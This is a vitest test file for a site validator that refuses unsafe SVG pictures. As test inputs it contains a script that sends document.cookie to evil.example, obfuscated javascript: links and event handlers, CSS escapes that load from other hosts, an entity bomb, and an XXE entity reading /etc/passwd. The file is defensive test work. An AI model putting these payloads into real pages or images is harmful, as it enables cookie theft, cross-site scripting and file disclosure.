// Every SVG in public/ is published as it is: one that can run code or load from another host
// is an error at its own line, named in site.yaml or not. Drawings as drawing programs export
// them pass.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseYaml } from '../../src/validate/yaml-source.ts';
import { siteValidator } from '../../src/validate/schema-validator.ts';
import { siteChecks } from '../../src/validate/checks/site-checks.ts';
import type { SiteConfig } from '../../src/site/site-types.generated.ts';
import { unsafeSvg } from '../../src/validate/checks/svg-checks.ts';
import { displayPath } from '../../src/validate/site-location.ts';
import { testSite } from '../support/test-site.ts';

const { source, data } = parseYaml('site.yaml', readFileSync(testSite.file, 'utf8'));
siteValidator().validate(data);
let publicDir: string;

beforeEach(() => {
  publicDir = mkdtempSync(join(tmpdir(), 'svg-checks-'));
  cpSync(testSite.publicDir, publicDir, { recursive: true });
});
afterEach(() => rmSync(publicDir, { recursive: true, force: true }));

/** The SVG problems of the root site with `files` added to (or replacing) its public/. */
function svgProblems(files: Record<string, string | Buffer>) {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(publicDir, name, '..'), { recursive: true });
    writeFileSync(join(publicDir, name), text);
  }
  return siteChecks(data as SiteConfig, source, { publicDir })
    .filter((p) => p.message.startsWith('This SVG picture'))
    .map((p) => ({ file: p.file, line: p.line, column: p.column, severity: p.severity, message: p.message }));
}

const svg = (inner: string, attrs = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>\n${inner}\n</svg>\n`;

describe('SVG checks', () => {
  it("pass the site's own drawings, and what drawing programs export", () => {
    expect(
      svgProblems({
        'images/inkscape.svg': svg(
          '  <sodipodi:namedview id="base" inkscape:zoom="1"/>\n  <defs><linearGradient id="g"/></defs>\n  <path d="M0 0h10v10z" style="fill:url(#g);stroke:#123456"/>\n  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>\n  <text>turn on = off</text>',
          ' xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"',
        ),
        // Illustrator's namespace entities and its private data; Figma's blurred background.
        'images/illustrator.svg': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n]>\n${svg('<foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1"><i:pgfRef xlink:href="#adobe_illustrator_pgf"/></foreignObject><!-- set onclick= later --><desc>@import nothing</desc>')}`,
        'images/figma.svg': svg(
          '<foreignObject x="0" y="0" width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml" style="backdrop-filter:blur(4px);height:100%;width:100%"></div></foreignObject><a href="https://example.com/about"><text>About</text></a>',
        ),
      }),
    ).toEqual([]);
  });

  it('refuse a script, at its line in the file, also in a file site.yaml does not name', () => {
    const problems = svgProblems({
      'images/logo.svg': svg('  <circle r="4"/>\n  <script>fetch("https://evil.example/?c="+document.cookie)</script>'),
      'images/unused/old.svg': svg('<g onload="alert(1)"/>'),
    });
    expect(problems).toEqual([
      {
        file: displayPath(join(publicDir, 'images/logo.svg')),
        line: 4,
        column: 3,
        severity: 'error',
        message: expect.stringMatching(/^This SVG picture holds a script \(<script>\).*must not run code/),
      },
      expect.objectContaining({
        file: expect.stringMatching(/images\/unused\/old\.svg$/),
        line: 3,
        message: expect.stringContaining('an event handler (onload="…")'),
      }),
    ]);
  });

  it.each([
    ['a namespaced script', '<svg:script>alert(1)</svg:script>', 'a script'],
    ['an upper-case handler', '<rect ONCLICK="alert(1)"/>', 'an event handler (onclick'],
    ['a handler after a quoted >', '<rect data-x=">" onload="alert(1)"/>', 'an event handler (onload'],
    ['a script with a type', '<script type="text/ecmascript">alert(1)</script>', 'a script'],
    [
      'a script under a dotted prefix',
      '<a.b:script xmlns:a.b="http://www.w3.org/2000/svg">alert(1)</a.b:script>',
      'a script',
    ],
    [
      "a javascript: link after text with ='",
      '<text>a=\'</text><a href="javascript:alert(1)">x</a>',
      'javascript link',
    ],
    [
      'an animated list of links',
      '<a><animate attributeName="href" values="#;javascript:alert(1)"/></a>',
      'javascript link',
    ],
    ['a host written with entities', '<image href="&#104;ttps://tracker.example/p.png"/>', 'another website'],
    ['a style sheet instruction', '<?xml-stylesheet href="https://cdn.example/x.css"?>', 'style sheet'],
    ['HTML inside the picture', '<foreignObject><iframe src="https://evil.example"/></foreignObject>', '<iframe>'],
    [
      'a javascript: link in entities',
      '<a xlink:href="&#106;ava&#x73;cript&colon;alert(1)"><text>x</text></a>',
      'javascript link',
    ],
    ['a javascript: link split by a tab', '<a href="java\tscript:alert(1)">x</a>', 'javascript link'],
    ['an animated link', '<a><set attributeName="href" to="javascript:alert(1)"/></a>', 'javascript link'],
    ['a picture from another host', '<image href="https://tracker.example/p.png"/>', 'another website'],
    ['a style from another host', '<style>@import url(//cdn.example/x.css);</style>', 'another website'],
    [
      'a style URL written with a hex escape',
      '<style>rect{fill:u\\72l(https://t.example/p.png)}</style>',
      'another website',
    ],
    [
      'a style URL with an escape ended by a space',
      '<rect style="fill:\\75 rl(//t.example/p.png)"/>',
      'another website',
    ],
    ['an escaped @import', '<style>@\\69mport "https://cdn.example/x.css";</style>', 'another website'],
    [
      'a motion path from another host',
      '<animateMotion><mpath href="https://t.example/p.svg#p"/></animateMotion>',
      'another website',
    ],
    ['a pattern from another host', '<pattern xlink:href="//t.example/p.svg#p"/>', 'another website'],
    ['an entity bomb', '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>', 'entity declaration'],
    ['an external entity', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'entity declaration'],
  ])('refuse %s', (_, inner, words) => {
    expect(unsafeSvg(svg(inner))[0]?.what).toContain(words);
  });

  it('read a compressed .svgz as a browser would, and refuse one that cannot be unpacked', () => {
    const problems = svgProblems({
      'images/packed.svgz': gzipSync(svg('<script>alert(1)</script>')),
      'images/broken.svgz': Buffer.from('not gzip'),
    });
    expect(problems.map((p) => [p.file.split('/').pop(), p.message.split(',')[0]])).toEqual([
      ['broken.svgz', 'This SVG picture holds compressed data that cannot be unpacked'],
      ['packed.svgz', 'This SVG picture holds a script (<script>)'],
    ]);
  });

  it('a broken link among the files leaves the others checked; a drawing over 5 MB is refused unread', () => {
    symlinkSync('/nonexistent/old-logo.svg', join(publicDir, 'images', 'old-logo.svg'));
    const problems = svgProblems({
      'images/evil.svg': svg('<script>alert(1)</script>'),
      'images/huge.svg': svg(`<path d="${'M0 0 '.repeat(1_300_000)}"/>`),
    });
    expect(problems.map((p) => [p.file.split('/').pop(), p.message.split(',')[0]])).toEqual([
      ['evil.svg', 'This SVG picture holds a script (<script>)'],
      ['huge.svg', expect.stringMatching(/^This SVG picture holds \d+ MB of drawing/)],
    ]);
  });
});
